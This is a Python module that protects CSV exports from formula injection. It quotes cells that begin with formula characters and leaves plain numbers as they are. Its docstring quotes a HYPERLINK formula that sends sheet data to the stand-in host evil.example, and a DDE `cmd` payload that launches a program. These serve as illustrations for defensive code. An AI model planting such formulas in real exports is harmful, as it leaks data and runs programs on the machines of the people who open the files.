"""Every CSV file the system writes, written one way: no cell can be read as a formula.

A spreadsheet opens a CSV cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some,
a tab or carriage return) as a formula: a school named ``=HYPERLINK("http://evil.example/?"
&A1,"x")`` would become a live link that sends the sheet's data away, and
``=cmd|' /C calc'!A0`` asks to run a program. OWASP's rule (CSV injection) is applied to
every cell: text that starts with one of those characters is written with a single quote
before it (``'=HYPERLINK(...)``), which a spreadsheet shows as text and never evaluates.

Numbers stay numbers: a value that is a number (``int``, ``float``, ``Decimal``) is written
as it is, and so is text that is a plain number (``-3``, ``-0.25``: a sign, digits, at most one
point), so a column of days late or of percentages still adds up. ``-3+2`` or ``-A1`` is not
a plain number and is quoted. ``None`` is an empty cell.

``SafeDictWriter`` is ``csv.DictWriter`` with the rule applied to every row (the header too);
``csv_chunks`` streams a table as text in pieces of about 64 KB for an HTTP response. Every
CSV producer uses one of the two (api/worklist.py, api/statistics.py, services/plan_example.py,
cli/phase_transfer.py); tests/test_csv_cells.py feeds formula payloads through each.

Pure (the standard library only).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Iterator, Mapping, Sequence
from decimal import Decimal
from typing import Any

# What a spreadsheet takes as the start of a formula (OWASP: = + - @ tab carriage return).
FORMULA_STARTS = frozenset("=+-@\t\r")
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")
CHUNK = 64 * 1024


def safe_cell(value: Any) -> Any:
    """The value as a CSV cell that no spreadsheet evaluates (see the module's docstring)."""
    if value is None:
        return ""
    if isinstance(value, (bool, int, float, Decimal)):
        return value
    text = str(value)
    if text[:1] in FORMULA_STARTS and not PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


class SafeDictWriter(csv.DictWriter):
    """``csv.DictWriter`` whose every cell (the header's too) goes through ``safe_cell``."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({k: safe_cell(v) for k, v in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for row in rowdicts:
            self.writerow(row)


def csv_chunks(columns: Sequence[str], rows: Iterable[Mapping[str, Any]],
               chunk: int = CHUNK) -> Iterator[str]:
    """The table as CSV text (header first; keys not in ``columns`` left out), in pieces of
    about ``chunk`` characters, for a streamed response."""
    buf = io.StringIO()
    writer = SafeDictWriter(buf, fieldnames=list(columns), extrasaction="ignore")
    writer.writeheader()
    for row in rows:
        writer.writerow(row)
        if buf.tell() > chunk:
            yield buf.getvalue()
            buf.seek(0)
            buf.truncate()
    yield buf.getvalue()
